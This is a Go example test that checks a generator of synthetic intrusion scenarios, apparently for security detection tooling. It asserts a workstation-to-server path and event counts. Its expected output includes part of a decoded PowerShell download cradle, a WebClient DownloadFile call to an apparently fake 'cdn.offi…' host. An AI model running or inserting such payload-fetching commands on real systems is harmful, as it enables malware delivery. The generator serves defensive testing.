package scenario_test

import (
	"fmt"

	"github.com/mdrkit/mdr/internal/scenario"
)

func ExampleGenerate() {
	sc := scenario.Generate(scenario.Config{Seed: 1})
	fmt.Println(sc.Facts.Workstation, "→", sc.Facts.Server)
	fmt.Println(sc.Facts.DecodedCommand[:60])
	fmt.Println(len(sc.Events) == sc.Facts.AttackEvents+sc.Facts.NoiseEvents)
	// sc.WriteNDJSON(w) writes one JSON object per line.
	_ = sc.WriteNDJSON(devNull{})
	// Output:
	// WKS-FIN07.corp.example → SRV-FS01.corp.example
	// $w=New-Object Net.WebClient;$w.DownloadFile('http://cdn.offi
	// true
}

type devNull struct{}

func (devNull) Write(p []byte) (int, error) { return len(p), nil }
